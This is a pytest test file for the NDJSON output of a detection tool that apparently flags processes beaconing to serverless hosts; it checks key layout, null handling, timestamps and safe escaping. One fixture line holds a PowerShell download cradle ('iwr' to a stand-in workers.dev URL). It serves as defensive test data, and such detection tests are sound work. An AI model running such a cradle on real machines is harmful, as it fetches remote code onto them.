"""NDJSON: ECS nesting, the output contract's keys, nulls, times, hostile strings."""

from __future__ import annotations

import datetime as dt
import io
import json
import math
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relayhunt import model
from relayhunt.report import ndjson
from relayhunt.report.ndjson import (
    FINDING_KEYS,
    INCIDENT_KEYS,
    SEVERITY_NUMBERS,
    finding_documents,
    incident_documents,
)
from tests.report.factories import (
    HOSTILE,
    finding_row,
    findings_table,
    incident_row,
    incidents_table,
)


def _get(doc: dict[str, Any], dotted: str) -> Any:
    node: Any = doc
    for part in dotted.split("."):
        assert isinstance(node, dict), f"{dotted}: {part!r} is under a non-object"
        assert part in node, f"{dotted}: missing {part!r} in {sorted(node)}"
        node = node[part]
    return node


def _one(**overrides: Any) -> dict[str, Any]:
    return next(finding_documents(findings_table([finding_row(3, **overrides)])))


# The architecture's "Contracts worth keeping stable" list, as the keys we chose for it.
CONTRACT: list[tuple[str, object]] = [
    ("rule.id", "RH-SL-001"),
    ("rule.name", "Serverless egress from a non-browser process"),
    ("rule.ruleset", "default"),
    ("threat.technique.id", ["T1583.007", "T1584.007"]),
    ("severity", "high"),
    ("confidence", "low"),
    ("score", 97.0),
    ("host.name", "WS-003"),
    ("user.name", "alice"),
    ("process.pid", 1003),
    ("process.name", "powershell.exe"),
    ("process.executable", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    ("process.command_line", "powershell.exe -nop -c iwr https://a3.acme.workers.dev/x"),
    ("process.entity_id", "{guid-3}"),
    ("process.parent.command_line", "explorer.exe"),
    ("process.parent.name", "explorer.exe"),
    ("process.parent.executable", r"C:\Windows\explorer.exe"),
    ("destination.domain", "a3.acme.workers.dev"),
    ("destination.ip", "104.21.3.4"),
    ("destination.port", 443),
    ("serverless.platform", "AWS Lambda function URL"),
    ("serverless.provider", "Amazon"),
    ("serverless.tenant", "a3.acme.workers.dev"),
    ("reason", "powershell.exe contacted a3.acme.workers.dev 15 times."),
    ("@timestamp", "2026-03-01T12:03:00.000000Z"),
    ("event.kind", "alert"),
    ("event.severity", 73),
    ("event.risk_score", 97.0),
    ("relayhunt.finding.id", "0000000000000003"),
    ("relayhunt.event_count", 15),
    ("relayhunt.last_seen", "2026-03-01T12:10:30.000000Z"),
]


@pytest.mark.parametrize(
    ("key", "expected"),
    CONTRACT,
    ids=[c[0] for c in CONTRACT],
)
def test_contract_keys(key: str, expected: object) -> None:
    assert _get(_one(), key) == expected


def test_ecs_leaf_names_with_underscores_are_not_split() -> None:
    doc = _one()
    assert "command" not in doc["process"]
    assert "entity" not in doc["process"]
    assert "command" not in doc["process"]["parent"]


def test_every_column_lands_under_its_key() -> None:
    """A fully populated finding has a value at the key of every column (no column lost,
    no two columns on one key)."""
    doc = _one()
    for column in model.FINDINGS:
        key = FINDING_KEYS.get(column.name, column.ecs)
        assert _get(doc, key) is not None, column.name


def test_stats_are_parsed_and_evidence_nested() -> None:
    doc = _one()
    assert _get(doc, "relayhunt.stats") == {
        "connections": 15,
        "interval_median_s": 30.0,
        "jitter": 0.04,
        "pids": [1, 2],
    }
    evidence = doc["evidence"]
    assert len(evidence) == 4
    assert evidence[0] == {
        "log": {"format": "sysmon.evtx", "file": {"path": "logs/host1/Sysmon.evtx", "record": 100}},
        "@timestamp": "2026-03-01T12:03:00.000000Z",
        "kind": "connection",
    }
    assert evidence[3]["log"]["file"] == {"path": "logs/ecs.ndjson", "line": 7}


@pytest.mark.parametrize(
    ("column", "absent_key"),
    [
        ("user_name", "user"),
        ("destination_ip", "destination.ip"),
        ("stats", "relayhunt.stats"),
        ("evidence", "evidence"),
        ("threat_technique_id", "threat"),
        ("score", "score"),
    ],
    ids=["user", "destination-ip", "stats", "evidence", "techniques", "score"],
)
def test_nulls_are_omitted(column: str, absent_key: str) -> None:
    doc = _one(**{column: None})
    *parents, leaf = absent_key.split(".")
    node: Any = doc
    for part in parents:
        node = node[part]
    assert leaf not in node
    assert "null" not in ndjson.dumps(doc)


def test_empty_lists_and_nan_scores_are_omitted() -> None:
    doc = _one(threat_technique_id=[], evidence=[], score=math.nan)
    assert "threat" not in doc
    assert "evidence" not in doc
    assert "score" not in doc
    assert "risk_score" not in doc["event"]


def test_stats_that_are_not_a_json_object_are_kept_as_text() -> None:
    doc = _one(stats="{not json")
    assert "stats" not in doc["relayhunt"]
    assert doc["relayhunt"]["stats_raw"] == "{not json"
    assert _one(stats="[1, 2]")["relayhunt"]["stats_raw"] == "[1, 2]"


def test_timezone_aware_times_are_converted_to_utc() -> None:
    rows = [finding_row(0)]
    table = findings_table(rows)
    aware = table.set_column(
        table.schema.get_field_index("first_seen"),
        "first_seen",
        table["first_seen"].cast(pa.timestamp("us", tz="Europe/Berlin")),
    )
    doc = next(finding_documents(aware))
    assert doc["@timestamp"] == "2026-03-01T12:00:00.000000Z"


@pytest.mark.parametrize("severity", list(SEVERITY_NUMBERS), ids=list(SEVERITY_NUMBERS))
def test_event_severity_is_numeric(severity: str) -> None:
    doc = _one(severity=severity)
    assert doc["severity"] == severity
    assert doc["event"]["severity"] == SEVERITY_NUMBERS[severity]


@pytest.mark.parametrize("payload", list(HOSTILE), ids=list(HOSTILE))
def test_hostile_strings_round_trip_on_one_ascii_line(payload: str) -> None:
    value = HOSTILE[payload]
    table = findings_table(
        [finding_row(0, process_command_line=value, host_name=value, reason=value)]
    )
    buffer = io.StringIO()
    assert ndjson.write_findings(table, buffer) == 1
    text = buffer.getvalue()
    assert text.endswith("\n")
    assert text.count("\n") == 1
    assert text.isascii()
    doc = json.loads(text)
    assert _get(doc, "process.command_line") == value
    assert doc["host"]["name"] == value
    assert doc["reason"] == value
    assert text.splitlines() == [text.rstrip("\n")]  # no U+2028 split either


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=50))
def test_any_text_round_trips(value: str) -> None:
    table = findings_table([finding_row(0, process_command_line=value)])
    buffer = io.StringIO()
    ndjson.write_findings(table, buffer)
    lines = buffer.getvalue().splitlines()
    assert len(lines) == 1
    doc = json.loads(lines[0])
    assert _get(doc, "process.command_line") == value


def test_write_to_path_and_count(tmp_path: Path) -> None:
    path = tmp_path / "findings.ndjson"
    n = ndjson.write_findings(findings_table([finding_row(i) for i in range(25)]), path)
    assert n == 25
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 25
    ids = [json.loads(line)["relayhunt"]["finding"]["id"] for line in lines]
    assert ids == [f"{i:016x}" for i in range(25)]  # table order kept


def test_empty_table_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "none.ndjson"
    assert ndjson.write_findings(findings_table([]), path) == 0
    assert path.read_text() == ""


# ------------------------------------------------------------------------- incidents

INCIDENT_CONTRACT: list[tuple[str, object]] = [
    ("relayhunt.incident.id", "inc-0002"),
    ("host.name", "WS-002"),
    ("relayhunt.incident.lineage", ["explorer.exe", "cmd.exe", "wscript.exe"]),
    ("score", 88.0),
    ("event.risk_score", 88.0),
    ("severity", "high"),
    ("event.severity", 73),
    ("@timestamp", "2026-03-01T12:00:00.000000Z"),
    ("relayhunt.first_seen", "2026-03-01T12:00:00.000000Z"),
    ("relayhunt.last_seen", "2026-03-01T13:00:00.000000Z"),
    ("relayhunt.incident.finding_ids", ["0000000000000002"]),
    ("rule.id", ["RH-SL-001", "RH-SL-003"]),
    ("threat.technique.id", ["T1583.007"]),
    ("destination.domain", ["a.acme.workers.dev"]),
    ("message", "wscript.exe ran a dropped script that beaconed to a Worker."),
    ("relayhunt.incident.story", incident_row()["story"]),
]


@pytest.mark.parametrize(
    ("key", "expected"), INCIDENT_CONTRACT, ids=[c[0] for c in INCIDENT_CONTRACT]
)
def test_incident_keys(key: str, expected: object) -> None:
    doc = next(incident_documents(incidents_table([incident_row(2)])))
    assert _get(doc, key) == expected


def test_every_incident_column_lands_under_its_key() -> None:
    doc = next(incident_documents(incidents_table([incident_row(2)])))
    for column in model.INCIDENTS:
        assert _get(doc, INCIDENT_KEYS.get(column.name, column.ecs)) is not None, column.name


def test_write_incidents_to_stream() -> None:
    buffer = io.StringIO()
    assert ndjson.write_incidents(incidents_table([incident_row(i) for i in range(3)]), buffer) == 3
    assert len(buffer.getvalue().splitlines()) == 3


def test_date_values_format_as_iso() -> None:
    row = finding_row(0, first_seen=dt.datetime(2026, 1, 2, 3, 4, 5, 6))
    doc = next(finding_documents(findings_table([row])))
    assert doc["@timestamp"] == "2026-01-02T03:04:05.000006Z"


# ------------------------------------------------------------------- docs in step

DOCS = Path(__file__).resolve().parents[2] / "docs" / "outputs.md"


def _keys(doc: dict[str, Any], prefix: str = "") -> list[str]:
    out: list[str] = []
    for key, value in doc.items():
        if isinstance(value, dict) and not (prefix + key).endswith("relayhunt.stats"):
            out.extend(_keys(value, f"{prefix}{key}."))
        else:
            out.append(prefix + key)
    return out


@pytest.mark.parametrize("kind", ["finding", "incident"])
def test_docs_list_every_key(kind: str) -> None:
    text = DOCS.read_text(encoding="utf-8")
    if kind == "finding":
        doc = _one()
        doc["relayhunt"]["stats_raw"] = "x"
        evidence_keys = _keys(doc.pop("evidence")[0])
        keys = [*_keys(doc), "evidence", *evidence_keys]
    else:
        keys = _keys(next(incident_documents(incidents_table([incident_row(2)]))))
    missing = [k for k in keys if f"`{k}`" not in text]
    assert missing == []


def test_docs_list_every_csv_column() -> None:
    text = DOCS.read_text(encoding="utf-8")
    assert all(c.name in text for c in model.FINDINGS)
